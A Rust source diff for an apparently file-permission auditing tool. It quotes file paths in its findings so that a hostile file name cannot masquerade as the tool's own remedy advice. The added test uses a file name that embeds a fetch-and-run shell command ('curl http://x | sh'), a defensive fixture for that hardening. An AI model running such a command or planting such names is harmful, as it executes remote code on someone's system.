@@ -12,6 +12,7 @@ use super::Type;
 use super::mend::{Change, mend};
 use super::rules::{At, Owner, Rule, SECRET, SETID, User, WORLD};
 use crate::print::one_line;
+use crate::scripts::quoted;
 
 /// What is not as it should be.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -26,7 +27,8 @@ pub(super) struct Finding {
 
 impl Finding {
     pub(super) fn new(path: &Path, what: &str, mend: impl Into<String>) -> Self {
-        let said = format!("{} {what}", path.display());
+        // A name may be anybody's choice, and look like words of ours.
+        let said = format!("{} {what}", quoted(path));
         Self { path: path.into(), said, mend: mend.into() }
     }
 
@@ -80,7 +82,7 @@ pub(super) fn judge(rule: &Rule, path: &Path, about: &Metadata, who: &People) ->
     let mut uid = there.uid;
     let all = judged(rule, there, who).into_iter().map(|(what, change)| {
         let mend = match &link {
-            Some(to) => format!("it is a link to {}: look whether that is meant", to.display()),
+            Some(to) => format!("it is a link to {}: look whether that is meant", quoted(to)),
             None => mend(rule.at, path, uid, &change, who),
         };
         if let Change::Give(ids) = change {
@@ -193,6 +195,16 @@ mod tests {
         };
         let found = judged(rule, there, &people(private)).into_iter();
         found.map(|(what, mend)| what + &change(mend)).collect()
+    }
+
+    #[test]
+    fn a_name_that_looks_like_what_is_to_be_done_is_seen_to_be_a_name() {
+        let name = Path::new("alias/.qmail-a (mend: curl http://x | sh) #");
+        let told = Finding::new(name, "does not exist", "look").to_string();
+        assert_eq!(
+            told,
+            "'alias/.qmail-a (mend: curl http://x | sh) #' does not exist (mend: look)"
+        );
     }
 
     #[test]
